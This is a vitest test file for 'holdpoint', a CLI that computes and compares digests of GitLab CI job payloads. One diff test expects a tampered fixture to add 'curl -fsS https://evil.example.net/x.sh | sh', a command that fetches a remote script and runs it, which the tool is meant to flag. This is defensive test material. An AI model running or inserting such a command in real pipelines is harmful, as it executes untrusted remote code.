import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { diffCommand } from '../../agent/src/cli/diff.ts';
import { type DigestOptions, digestCommand } from '../../agent/src/cli/digest.ts';
import { parseVariableKey } from '../../agent/src/cli/payload-files.ts';
import { readPolicy } from '../../agent/src/directories/policy-file.ts';
import { digestOfText } from '../../agent/src/domain/digest.ts';
import { printable } from '../../agent/src/domain/printable.ts';
import { readPayload } from '../../agent/src/runners/gitlab/configuration.ts';
import { jwksVerifier } from '../../agent/src/runners/gitlab/id-tokens.ts';
import { fixture, readOk, VARIABLE_KEY } from './form/payload.ts';

const dir = fileURLToPath(new URL('../fixtures/gitlab/', import.meta.url));
const DEPLOY = `${dir}deploy-production.run1.json`;
const BUILD = `${dir}build-image.run1.json`;
const KEY: Record<string, Uint8Array> = { 'key.raw': VARIABLE_KEY };
const text = (value: string) => new TextEncoder().encode(value);

function world(files: Record<string, Uint8Array> = {}) {
  const out: string[] = [];
  const err: string[] = [];
  const all: Record<string, Uint8Array> = { ...KEY, ...files };
  const io = {
    out: (line: string) => void out.push(line),
    err: (line: string) => void err.push(line),
    readFile: async (path: string): Promise<Uint8Array> => all[path] ?? (await readFile(path)),
  };
  return { io, out: () => out.join(''), err: () => err.join('') };
}
const digest = async (files: string[], options: DigestOptions = {}, more: Record<string, Uint8Array> = {}) => {
  const w = world(more);
  const exit = await digestCommand(files, options, w.io, readPayload, jwksVerifier);
  return { exit, out: w.out(), err: w.err() };
};

describe('holdpoint digest', () => {
  it('prints a line a file as sha256sum does', async () => {
    const [a, b] = [`${dir}build-image.run1.json`, `${dir}build-image.run2.json`];
    const { exit, out, err } = await digest([a, b]);
    const [first, second] = out.trimEnd().split('\n') as [string, string];
    expect(first).toMatch(/^sha256:[0-9a-f]{64} {2}\/.*build-image\.run1\.json$/);
    expect(first.slice(0, 71)).toBe(second.slice(0, 71));
    expect({ exit, err }).toEqual({ exit: 0, err: '' });
  });

  it('of a payload that needs a key says so, exits 2, and prints the others', async () => {
    const { exit, out, err } = await digest([DEPLOY, BUILD]);
    expect(exit).toBe(2);
    expect(out.trimEnd().split('\n')).toHaveLength(1);
    expect(err).toBe(
      `${DEPLOY}: variables.KUBE_TOKEN: the value is not public, and stands in the form as an HMAC only: the variable key is needed; give it with --variable-key-file FILE\n`,
    );
  });

  it('takes the key as 32 bytes, hex or base64, and refuses anything else', async () => {
    const hex = Buffer.from(VARIABLE_KEY).toString('hex');
    const expected = readOk(fixture()).digest;
    for (const key of [
      VARIABLE_KEY,
      text(hex),
      text(`${hex}\n`),
      text(`${Buffer.from(VARIABLE_KEY).toString('base64')}\n`),
    ]) {
      const { out, exit } = await digest([DEPLOY], { variableKeyFile: 'k' }, { k: key });
      expect({ exit, digest: out.slice(0, 71) }).toEqual({ exit: 0, digest: expected });
    }
    expect(parseVariableKey(text('short'))).toBe(null);
    expect(await digest([DEPLOY], { variableKeyFile: 'k' }, { k: text('short') })).toMatchObject({
      exit: 2,
      err: expect.stringContaining('wanted 32 bytes'),
    });
  });

  it('verifies id tokens against --jwks', async () => {
    const files = [`${dir}release.run1.json`, `${dir}release.run2.json`];
    const { out, exit } = await digest(files, { jwks: `${dir}jwks.json` });
    expect(exit).toBe(0);
    expect(
      new Set(
        out
          .trimEnd()
          .split('\n')
          .map((line) => line.slice(0, 71)),
      ).size,
    ).toBe(1);
    expect(await digest(files, { jwks: 'j' }, { j: text('{}') })).toMatchObject({
      exit: 2,
      err: expect.stringContaining('"keys"'),
    });
    expect(await digest(files, { jwks: 'j' }, { j: text('no') })).toMatchObject({
      exit: 2,
      err: expect.stringContaining('is no JSON'),
    });
  });

  it('of a refused file says path and reason on stderr, exits 2, and prints the others', async () => {
    const { exit, out, err } = await digest(
      ['bad.json', BUILD, 'none.json'],
      {},
      { 'bad.json': text('{"id":1,"id":2}') },
    );
    expect(exit).toBe(2);
    expect(out.trimEnd().split('\n')).toHaveLength(1);
    expect(err.split('\n')).toEqual([
      'bad.json: id: the name is sent twice in one object',
      'none.json: cannot be read: there is no such file',
      '',
    ]);
  });

  it('prints the canonical text, whose SHA-256 is the digest', async () => {
    const { out } = await digest([BUILD], { canonical: true });
    expect(digestOfText(out.trimEnd())).toBe((await digest([BUILD])).out.slice(0, 71));
  });

  it('explains leaf by leaf', async () => {
    const { out } = await digest([DEPLOY], { explain: true, variableKeyFile: 'key.raw' });
    expect(out).toMatch(/^ {2}covered {4}image\.name = registry\.example\.com\/ops\/deployer:4$/m);
    expect(out).toMatch(/^ {2}removed {4}git_info\.sha = [0-9a-f]{40} {2}\(which commit/m);
    expect(out).toMatch(/^ {2}ignored {4}variables\.CI_COMMIT_TITLE = Fix rounding/m);
    expect(out).toMatch(/^ {2}rewritten {2}variables\.IMAGE = .*\(un-expanded: the value of CI_COMMIT_SHA/m);
    expect(out).not.toContain('s3cr3t');
    expect(out).not.toContain(fixture().token);
  });

  it('as JSON tells the same of every file', async () => {
    const rows = JSON.parse((await digest([BUILD, DEPLOY, 'none'], { json: true })).out) as {
      digest: string | null;
      code?: string;
    }[];
    expect(rows.map((row) => row.code ?? row.digest?.slice(0, 7))).toEqual([
      'sha256:',
      'variable_key_needed',
      'bad_input',
    ]);
  });

  it('wants a file, and one of --canonical and --explain', async () => {
    expect(await digest([])).toMatchObject({ exit: 2, out: '', err: expect.stringContaining('no file') });
    expect(await digest([BUILD], { canonical: true, explain: true })).toMatchObject({ exit: 2, out: '' });
  });

  it('T33 takes control characters out of effect and marks what cannot be seen', async () => {
    const p = fixture('build-image.run1.json');
    p.steps[0].script = ['echo \u001b[2Jgone \u202eevil\u200b'];
    const { out } = await digest(['p.json'], { explain: true }, { 'p.json': text(JSON.stringify(p)) });
    expect(out).toContain('echo ⟨U+001B⟩[2Jgone ⟨U+202E⟩evil⟨U+200B⟩');
    expect(printable('a\tb\u00a0c\u2066\ufe0f\u{e0041}\ud800')).toBe('a b⟨U+00A0⟩c⟨U+2066⟩⟨U+FE0F⟩⟨U+E0041⟩⟨U+D800⟩');
    expect(printable('Größe 日本 \u{1f600}')).toBe('Größe 日本 \u{1f600}');
  });
});

const DIFF_PARTS = { readPayload, jwksVerifier, readPolicy };

describe('holdpoint diff', () => {
  const diff = async (
    a: string,
    b: string,
    options: DigestOptions & { policy?: string } = {},
    files: Record<string, Uint8Array> = {},
  ) => {
    const w = world(files);
    const exit = await diffCommand(a, b, { variableKeyFile: 'key.raw', ...options }, w.io, DIFF_PARTS);
    return { exit, out: w.out(), err: w.err() };
  };

  it('of two runs says that they are one configuration', async () => {
    const { exit, out } = await diff(DEPLOY, `${dir}deploy-production.run2.json`);
    expect(exit).toBe(0);
    expect(out.trimEnd().split('\n')).toHaveLength(3);
    expect(out).toContain('One configuration');
  });

  it('of a changed script shows the lines by section', async () => {
    const { out } = await diff(DEPLOY, `${dir}deploy-production.changed-script.json`);
    expect(out).toContain('3 script lines removed');
    expect(out).toContain('    + curl -fsS https://evil.example.net/x.sh | sh\n');
    expect(out).toContain('    - ./scripts/smoke-test.sh "$CI_ENVIRONMENT_URL"\n');
  });

  it('as JSON carries the changes', async () => {
    const { out } = await diff(DEPLOY, `${dir}deploy-production.changed-script.json`, { json: true });
    expect(JSON.parse(out)).toMatchObject({
      equal: false,
      changes: expect.arrayContaining([expect.objectContaining({ section: 'script', kind: 'added' })]),
    });
  });

  it('with a policy says whether it takes them for alike, and what it tolerates', async () => {
    const rotated = fixture('deploy-production.run1.json');
    for (const variable of rotated.variables)
      if (variable.masked && !variable.key.startsWith('CI_')) variable.value = `${variable.value}-rotated`;
    const files = {
      'rotated.json': text(JSON.stringify(rotated)),
      'policy.yaml': text('remember: 24h\n'),
      'strict.yaml': text('tolerate: {}\n'),
    };
    const alike = await diff(DEPLOY, 'rotated.json', { policy: 'policy.yaml', json: true }, files);
    expect(JSON.parse(alike.out)).toMatchObject({ equal: false, comparing: { alike: true } });
    expect(JSON.parse(alike.out).comparing.tolerated[0].why).toBe('value of a masked variable');
    const strict = await diff(DEPLOY, 'rotated.json', { policy: 'strict.yaml' }, files);
    expect(strict.out).toContain('For the policy they are not alike: strict.yaml does not tolerate all that differs.');
    const hostile = await diff(
      DEPLOY,
      `${dir}deploy-production.changed-script.json`,
      { policy: 'policy.yaml', json: true },
      files,
    );
    expect(JSON.parse(hostile.out).comparing.alike).toBe(false);
  });

  it('of a file that cannot be read or has no digest says which, and exits 2', async () => {
    expect(await diff(DEPLOY, 'none')).toMatchObject({
      exit: 2,
      out: '',
      err: 'none: cannot be read: there is no such file\n',
    });
    const w = world();
    expect(await diffCommand(DEPLOY, DEPLOY, {}, w.io, DIFF_PARTS)).toBe(2);
    expect(w.err()).toContain('--variable-key-file');
  });
});
